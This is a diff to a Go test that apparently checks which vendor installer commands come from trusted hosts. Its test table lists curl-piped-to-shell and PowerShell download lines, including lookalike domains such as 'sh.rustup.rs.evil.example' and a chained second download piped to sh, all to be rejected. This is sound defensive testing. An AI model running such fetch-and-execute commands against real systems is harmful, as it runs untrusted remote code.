@@ -65,9 +65,11 @@ func TestComboOwner(t *testing.T) {
 
 func TestVendorInstaller(t *testing.T) {
 	for in, want := range map[string]string{
-		"curl -sSf https://sh.rustup.rs | sh":                             "sh.rustup.rs",
-		"curl https://sh.rustup.rs.evil.example | sh":                     "",
-		"curl https://sh.rustup.rs | sh && curl https://x.example/a | sh": "",
+		"curl -sSf https://sh.rustup.rs | sh":                              "sh.rustup.rs",
+		"curl -fsSL https://test.docker.com -o get-docker.sh":              "test.docker.com",
+		"curl -fsSL https://test.docker.com.cdn-edge.net -o get-docker.sh": "",
+		"curl https://sh.rustup.rs.evil.example | sh":                      "",
+		"curl https://sh.rustup.rs | sh && curl https://x.example/a | sh":  "",
 		"echo no url here":                    "",
 		"curl -sS https://webi.sh/shfmt | sh": "webi.sh/",
 		"iex (new-object net.webclient).downloadstring('https://get.scoop.sh')": "get.scoop.sh",
